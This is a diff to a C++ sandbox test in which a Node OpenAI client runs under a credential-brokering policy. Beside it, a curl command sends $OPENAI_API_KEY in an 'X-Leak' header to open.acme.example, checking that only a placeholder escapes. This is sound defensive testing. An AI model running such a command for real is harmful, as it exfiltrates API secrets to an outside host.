@@ -246,9 +246,10 @@ new OpenAI({ maxRetries: 0 }).chat.completions.create({ model: "m", messages: [{
 )");
     Finished sdk = run_in_sandbox(policy("      - { use: openai, credential: ai }\n      - { host: open.acme.example }\n", {}, credential),
                                   {"sh", "-c",
-                                   "export NODE_PATH=" SALLYPORT_NPM_CLIENTS "; node client.cjs;"
+                                   "export NODE_PATH=/mnt/npm; node client.cjs;"
                                    "curl -sS -H \"X-Leak: $OPENAI_API_KEY\" https://open.acme.example/echo"},
-                                  {.directory = directory});
+                                  // Wherever the checkout is: what is below /tmp or a home folder is masked.
+                                  {.options = {"--bind", SALLYPORT_NPM_CLIENTS ":/mnt/npm"}, .directory = directory});
     EXPECT_THAT(sdk.out, HasSubstr("sk- you said hello with ")) << sdk.err;
     EXPECT_THAT(sdk.out, HasSubstr("placeholder_misused"));
 }
